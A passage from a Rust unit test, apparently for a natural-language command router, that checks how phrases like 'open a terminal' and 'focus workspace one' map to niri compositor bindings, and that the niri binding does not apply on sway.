        let plan_of = |utterance: &str| run_with(utterance, None, &binds).map(|m| (m.rule, m.args));
        assert_eq!(
            plan_of("open a terminal"),
            Some(("niri_bind", json!({"command": "spawn", "args": ["foot"]})))
        );
        assert_eq!(
            plan_of("focus workspace browser"),
            Some((
                "niri_bind",
                json!({"command": "focus-workspace", "args": ["browser"]})
            ))
        );
        // The curated phrase keeps "close window"; the curated workspace phrase gives the same
        // action as the binding; a site keeps "open youtube".
        assert_eq!(
            plan_of("close window"),
            Some(("compositor", json!({"command": "close-window"})))
        );
        assert_eq!(
            plan_of("focus workspace one"),
            Some((
                "compositor",
                json!({"command": "focus-workspace", "args": [1]})
            ))
        );
        assert_eq!(plan_of("open youtube").map(|p| p.0), Some("open_site"));
        // Not on sway.
        let sway = context(json!({"compositor": {"name": "sway"}}));
        assert_eq!(run_with("open a terminal", Some(&sway), &binds), None);
    }
}
